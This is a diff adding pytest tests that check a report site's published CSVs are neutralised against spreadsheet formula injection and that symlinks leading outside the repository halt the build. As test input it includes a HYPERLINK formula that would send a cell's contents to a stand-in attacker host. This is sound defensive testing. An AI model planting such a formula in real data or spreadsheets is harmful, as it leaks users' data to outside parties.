@@ -103,6 +103,83 @@ def test_matplotlib_draws_data_text_as_typed(tmp_path, monkeypatch, item):
     assert (tmp_path / "hostile-costs.svg").stat().st_size > 0
 
 
+# --- published CSVs are safe in a spreadsheet (issue 25, item 6) -------------------------
+
+FORMULA = '=HYPERLINK("https://evil.invalid/?leak="&A1,"click")'
+
+
+@pytest.mark.parametrize("cell, published", [
+    (FORMULA, "'" + FORMULA), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"), ("-5", "-5"), ("-12.5", "-12.5"), ("+3", "+3"), ("1e-05", "1e-05"), ("Tallinn", "Tallinn")])
+def test_csv_cells_are_neutralised_the_owasp_way(cell, published):
+    assert escape.csv_cell(cell) == published
+
+
+def _downloads(tmp_path, monkeypatch) -> tuple[Path, Path, Path]:
+    data, figures, out = tmp_path / "data", tmp_path / "figures", tmp_path / "site"
+    shutil.copytree(ROOT / "data", data)
+    figures.mkdir()
+    out.mkdir()
+    monkeypatch.setenv("REPORT_DATA_DIR", str(data))
+    monkeypatch.setenv("REPORT_FIGURES_DIR", str(figures))
+    return data, figures, out
+
+
+def test_every_published_csv_is_spreadsheet_safe(tmp_path, monkeypatch):
+    """The data downloads, the chart data and the classroom zip: a formula is published as
+    text (a leading quote), a negative number stays a number. Validation refuses formulas in
+    the data already; this is the second lock, and the only one for computed chart data."""
+    import io
+    import zipfile
+
+    from report.sphinx_ext import copy_downloads
+
+    data, figures, out = _downloads(tmp_path, monkeypatch)
+    with (data / "incidents.csv").open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))
+    rows[1][rows[0].index("notes")] = FORMULA
+    with (data / "incidents.csv").open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows(rows)
+    (figures / "chart.csv").write_text(f'label,value\n"{FORMULA.replace(chr(34), chr(34) * 2)}",-5\n@x,3\n', encoding="utf-8")
+    (figures / "chart.png").write_bytes(b"png")
+    copy_downloads(out)
+    with zipfile.ZipFile(out / "downloads" / "data-exercise.zip") as archive:
+        zipped = archive.read("data-exercise/incidents.csv").decode("utf-8")
+    for text in ((out / "data" / "incidents.csv").read_text(encoding="utf-8"), zipped):
+        published = list(csv.reader(io.StringIO(text)))
+        assert published[1][published[0].index("notes")] == "'" + FORMULA
+        assert not any(cell.startswith(("=", "+", "@")) for row in published for cell in row)
+    chart = list(csv.reader(io.StringIO((out / "figures" / "chart.csv").read_text(encoding="utf-8"))))
+    assert chart == [["label", "value"], ["'" + FORMULA, "-5"], ["'@x", "3"]]
+    assert (out / "figures" / "chart.png").read_bytes() == b"png"
+    # A file with nothing to neutralise is published byte for byte.
+    assert (out / "data" / "sources.csv").read_bytes() == (data / "sources.csv").read_bytes()
+
+
+# --- symbolic links are never followed into the site (issue 25, items 8 and 9) -----------
+
+@pytest.mark.parametrize("kind", ["file", "folder", "data-file"])
+def test_a_symlink_the_site_would_copy_stops_the_build(tmp_path, monkeypatch, kind):
+    from sphinx.errors import ExtensionError
+
+    from report.sphinx_ext import copy_downloads
+
+    data, figures, out = _downloads(tmp_path, monkeypatch)
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "secret.csv").write_text("CANARY-outside-the-repository\n", encoding="utf-8")
+    if kind == "file":
+        (figures / "chart.csv").symlink_to(outside / "secret.csv")
+    elif kind == "folder":
+        (figures / "more").symlink_to(outside)
+    else:
+        (data / "incidents.csv").unlink()
+        (data / "incidents.csv").symlink_to(outside / "secret.csv")
+    with pytest.raises(ExtensionError, match="symbolic links"):
+        copy_downloads(out)
+    assert not any("CANARY" in p.read_text(errors="replace") for p in out.rglob("*") if p.is_file())
+
+
 # --- the offline check -------------------------------------------------------------------
 
 @pytest.mark.parametrize("snippet", [
